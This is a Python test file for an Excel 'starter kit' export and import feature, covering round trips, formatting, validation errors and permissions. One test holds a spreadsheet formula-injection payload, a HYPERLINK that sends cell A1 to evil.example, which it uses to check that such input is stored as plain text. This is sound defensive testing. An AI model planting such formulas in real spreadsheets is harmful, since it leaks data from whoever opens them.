"""The Excel starter kit: written from the store, formatted for people, read back whole."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import pytest

from assistant.cluster import recompute_themes
from assistant.config import load_settings
from assistant.errors import IngestError
from assistant.examples import EXAMPLE_DIR, load_example_network
from assistant.ingest.service import ingest_paths, status
from assistant.publish import list_patterns
from assistant.rhythm.adoptions import PatternEntry, import_patterns_and_adoptions
from assistant.rhythm.charter import get_charter
from assistant.rhythm.kit import (
    LAYOUT,
    PATTERN_TEXT_COLUMNS,
    SHEETS,
    differences,
    export_kit,
    workbook_values,
)
from assistant.rhythm.kitread import is_kit
from assistant.rhythm.metrics import case_statuses, sprint_metrics
from assistant.rhythm.sprints import list_sprints
from assistant.workspace import open_workspace

ON = dt.date(2026, 11, 25)


@pytest.fixture(scope="module")
def example_kit(tmp_path_factory, embedder) -> Path:
    """The example network's kit, exported once for this module."""
    w = open_workspace(load_settings(data_dir=tmp_path_factory.mktemp("src")),
                       embedder=embedder)
    load_example_network(w)
    recompute_themes(w)
    path = export_kit(w, tmp_path_factory.mktemp("kit") / "kit.xlsx", on=ON)
    w.close()
    return path


def test_kit_round_trip_into_an_empty_store_gives_the_same_workbook(example_kit, any_ws,
                                                                    tmp_path) -> None:
    report = ingest_paths(any_ws, [example_kit])
    assert report.cases_added == 65
    assert any("planner: 1 sprint started" in w for w in report.warnings)
    recompute_themes(any_ws)  # themes are derived: recomputed from the same cases
    again = export_kit(any_ws, tmp_path / "again.xlsx", on=ON)
    assert differences(workbook_values(example_kit), workbook_values(again)) == []
    # What came in is in the store, not only in the sheet.
    assert get_charter(any_ws).results[0].baseline == 74
    assert [s.start for s in list_sprints(any_ws)] == [dt.date(2026, 9, 1)]
    assert sum(1 for c in case_statuses(any_ws).values() if c.status == "resolved") == 10
    assert sprint_metrics(any_ws)[0].overall.median_days_to_solve == 16.5
    # The playbook's patterns come back with their text, not only their names.
    sso = next(p for p in list_patterns(any_ws) if p.name == "SSO readiness starts at kickoff")
    assert "identity provider owner" in sso.solution and sso.problem and sso.not_when
    # Ingesting the same kit again adds nothing.
    before = status(any_ws)
    again_report = ingest_paths(any_ws, [example_kit])
    assert again_report.cases_added == 0 and status(any_ws) == before
    assert get_charter(any_ws).version == 1


def test_the_kit_is_formatted_for_people(example_kit) -> None:
    wb = openpyxl.load_workbook(example_kit)
    assert wb.sheetnames == list(SHEETS) == ["Charter", "Roles and RACI", "90-day planner",
                                             "Intake", "Metrics tracker"]
    intake = wb["Intake"]
    assert intake["A1"].value == "Case and content intake" and intake["A1"].font.b
    assert intake.freeze_panes == "A4" and intake["A3"].value == "Case id"
    assert intake["A3"].font.b
    assert intake.column_dimensions["C"].width >= 40  # problem text gets room
    submitted = intake.cell(row=4, column=9)
    assert isinstance(submitted.value, dt.datetime) and submitted.number_format == "yyyy-mm-dd"
    planner = [tuple(r) for r in wb["90-day planner"].iter_rows(values_only=True)]
    assert any(r[:2] == ("Hold demo day", 1) and r[4] == "yes" for r in planner)
    with zipfile.ZipFile(example_kit) as z:
        chart = next(n for n in z.namelist() if n.startswith("xl/charts/chart"))
        xml = z.read(chart).decode()
    assert "'Metrics tracker'!$F$" in xml and "'Metrics tracker'!$H$" in xml
    assert "The three metrics per sprint" in xml


def test_each_sheets_blocks_are_recognisable_by_their_first_header() -> None:
    for name, (_, _, blocks) in LAYOUT.items():
        firsts = [b.headers[0].lower() for b in blocks]
        assert len(firsts) == len(set(firsts)), name


def test_a_plain_intake_workbook_is_not_taken_for_a_kit(example_kit, ws) -> None:
    assert is_kit(example_kit)
    assert not is_kit(EXAMPLE_DIR / "cases.xlsx")
    report = ingest_paths(ws, [EXAMPLE_DIR / "cases.xlsx"])
    assert report.cases_added == 65 and not report.warnings
    assert list_sprints(ws) == []


def test_a_blank_kit_has_every_sheet_and_ingests_to_nothing(ws, tmp_path) -> None:
    blank = export_kit(None, tmp_path / "blank.xlsx")
    values = workbook_values(blank)
    assert list(values) == list(SHEETS)
    assert ("Purpose",) in values["Charter"] and ("Activity", "Sponsor", "Steward",
                                                 "Facilitators", "Data partner") in \
        values["Roles and RACI"]
    report = ingest_paths(ws, [blank])
    assert report.cases_added == 0 and get_charter(ws).version == 0


def test_a_kit_filled_by_hand_with_a_bad_cell_names_sheet_row_and_stores_nothing(
        example_kit, ws, tmp_path) -> None:
    wb = openpyxl.load_workbook(example_kit)
    intake = wb["Intake"]
    intake.cell(row=10, column=11).value = "done"  # Case status
    bad = tmp_path / "bad.xlsx"
    wb.save(bad)
    with pytest.raises(IngestError) as err:
        ingest_paths(ws, [bad])
    assert "sheet 'Intake'), row 10" in str(err.value)
    assert "open, in session, resolved, recurring" in str(err.value)
    assert status(ws).cases == 0 and get_charter(ws).version == 0

    wb = openpyxl.load_workbook(example_kit)
    wb["Metrics tracker"].insert_rows(1)  # a second title row is tolerated
    rows = list(wb["Metrics tracker"].iter_rows())
    score = next(r for r in rows if r[0].value == "Billing Ops" and r[2].value is not None)
    score[2].value = "high"
    wb.save(bad)
    with pytest.raises(IngestError, match="sheet 'Metrics tracker'.*score 'high'"):
        ingest_paths(ws, [bad])
    assert status(ws).cases == 0


def test_a_kit_whose_intake_has_two_headers_for_the_problem_is_refused_and_stores_nothing(
        example_kit, ws, tmp_path) -> None:
    wb = openpyxl.load_workbook(example_kit)
    context = next(c for row in wb["Intake"].iter_rows() for c in row if c.value == "Context")
    context.value = "Description"  # another accepted spelling of the problem column
    two = tmp_path / "two.xlsx"
    wb.save(two)
    with pytest.raises(IngestError) as err:
        ingest_paths(ws, [two])
    assert "two.xlsx (sheet 'Intake')" in str(err.value)
    assert "'Problem' (column C) and 'Description' (column D) both name the 'problem' field" \
        in str(err.value)
    assert status(ws).cases == 0 and get_charter(ws).version == 0


def test_a_kit_sheet_with_a_header_given_twice_is_refused_naming_sheet_cells_and_fix(
        example_kit, ws, tmp_path) -> None:
    """A second 'Team' column right of the roles table (or a second 'Case status' on the
    intake) would have one column read and the other's values lost unseen: the kit is
    refused, naming the sheet, the header's row and cells, and the fix; nothing stored."""
    wb = openpyxl.load_workbook(example_kit)
    roles = wb["Roles and RACI"]
    head = next(c for row in roles.iter_rows() for c in row if c.value == "Person")
    width = len(LAYOUT["Roles and RACI"][2][0].headers)
    roles.cell(row=head.row, column=width + 1).value = "Team "
    roles.cell(row=head.row + 1, column=width + 1).value = "Another team"
    two = tmp_path / "two.xlsx"
    wb.save(two)
    with pytest.raises(IngestError) as err:
        ingest_paths(ws, [two])
    msg = str(err.value)
    assert "two.xlsx (sheet 'Roles and RACI')" in msg and err.value.line == head.row
    assert (f"the 'Person' table's cells C{head.row} and F{head.row} are both headed 'Team'; "
            "only one could be read and the values under the other would be lost") in msg
    assert "give each column its own header" in (err.value.fix or "")
    assert status(ws).cases == 0 and get_charter(ws).version == 0

    wb = openpyxl.load_workbook(example_kit)
    intake = wb["Intake"]
    head = next(c for row in intake.iter_rows() for c in row if c.value == "Case status")
    intake.cell(row=head.row, column=head.column + 3).value = "Case status"
    wb.save(two)
    with pytest.raises(IngestError, match=r"sheet 'Intake'.*'Case id' table's cells K\d+ "
                       r"and N\d+ are both headed 'Case status'"):
        ingest_paths(ws, [two])
    assert status(ws).cases == 0


def test_a_kit_is_refused_whole_when_the_role_may_not_store_all_of_it(example_kit,
                                                                     ws) -> None:
    from assistant.errors import Forbidden
    from tests.sample_data import FRAN

    with pytest.raises(Forbidden, match="edit charter"):
        ingest_paths(ws, [example_kit], actor=FRAN)  # facilitators may ingest cases only
    assert status(ws).cases == 0 and list_sprints(ws) == []


def test_a_kit_from_before_the_pattern_text_columns_still_reads_and_a_later_one_fills_it(
        example_kit, ws, tmp_path) -> None:
    """A kit exported before the patterns table had its text columns is read (patterns by
    name only); importing a kit with the text later gives those patterns their text, once,
    and never overwrites a pattern that has text."""
    wb = openpyxl.load_workbook(example_kit)
    sheet = wb["Metrics tracker"]
    rows = list(sheet.iter_rows())
    at = next(i for i, r in enumerate(rows) if r[0].value == "Pattern")
    text_cols = [c.column - 1 for c in rows[at] if c.value in PATTERN_TEXT_COLUMNS]
    for r in rows[at:at + 5]:  # the header and the four patterns
        for i in text_cols:
            r[i].value = None
    old = tmp_path / "old.xlsx"
    wb.save(old)
    ingest_paths(ws, [old])
    names = {p.name: p for p in list_patterns(ws)}
    assert len(names) == 4 and all(not p.problem and not p.solution for p in names.values())

    report = ingest_paths(ws, [example_kit])
    assert any("4 patterns given their text" in w for w in report.warnings)
    filled = {p.name: p for p in list_patterns(ws)}
    assert all(p.problem and p.solution and p.applies_when for p in filled.values())
    assert {p.id for p in filled.values()} == {p.id for p in names.values()}

    entry = PatternEntry("SSO readiness starts at kickoff", problem="Another text.",
                         solution="Do something else.")
    import_patterns_and_adoptions(ws, [entry], [], source="again.xlsx", index=False)
    sso = next(p for p in list_patterns(ws) if p.name == entry.name)
    assert sso.problem == filled[entry.name].problem  # a pattern with text keeps it


def test_user_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(
        ws, settings, embedder, tmp_path) -> None:
    sheet = tmp_path / "formula.csv"
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    sheet.write_text('Title,Problem,Submitted by,Team,Submitted\n"' + title.replace('"', '""')
                     + '","Invoices fail after the tax change","=1+2","@SUM(1+1)",2026-10-05\n'
                     "+44 20 7946 0958,- a dash first and a tab,-5,\tTabbed,2026-10-06\n",
                     encoding="utf-8")
    ingest_paths(ws, [sheet])
    kit = export_kit(ws, tmp_path / "kit.xlsx", on=ON)
    intake = openpyxl.load_workbook(kit)["Intake"]
    cells = {c.value: c for row in intake.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (title, "=1+2", "@SUM(1+1)", "+44 20 7946 0958", "- a dash first and a tab",
                 "-5"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert not any(c.data_type == "f" for c in cells.values())
    # The round trip gives back the text as typed.
    other = open_workspace(load_settings(data_dir=tmp_path / "other"), embedder=embedder)
    try:
        assert ingest_paths(other, [kit]).cases_added == 2
        again = export_kit(other, tmp_path / "again.xlsx", on=ON)
        assert differences(workbook_values(kit), workbook_values(again)) == []
    finally:
        other.close()


def test_kit_export_into_a_missing_folder_is_refused_and_creates_nothing(tmp_path) -> None:
    from assistant.errors import AssistantError

    target = tmp_path / "typo" / "dir" / "kit.xlsx"
    with pytest.raises(AssistantError, match="does not exist"):
        export_kit(None, target)
    assert not (tmp_path / "typo").exists()


def test_a_kit_with_a_sheet_cut_short_is_refused_with_the_fix_not_a_traceback(
        tmp_path, recwarn) -> None:
    from assistant.rhythm.kitread import read_kit

    blank = export_kit(None, tmp_path / "blank.xlsx")
    cut = tmp_path / "cut.xlsx"
    with zipfile.ZipFile(blank) as src, zipfile.ZipFile(cut, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[:-40]  # its size is read, its rows are not
            dst.writestr(item, data)
    assert is_kit(cut)
    with pytest.raises(IngestError) as err:
        read_kit(cut)
    assert "cut.xlsx" in str(err.value) and "cannot open the workbook" in str(err.value)
    assert err.value.fix == "open it in Excel and save it again as .xlsx."
    assert not [w for w in recwarn if "openpyxl" in str(w.filename)]
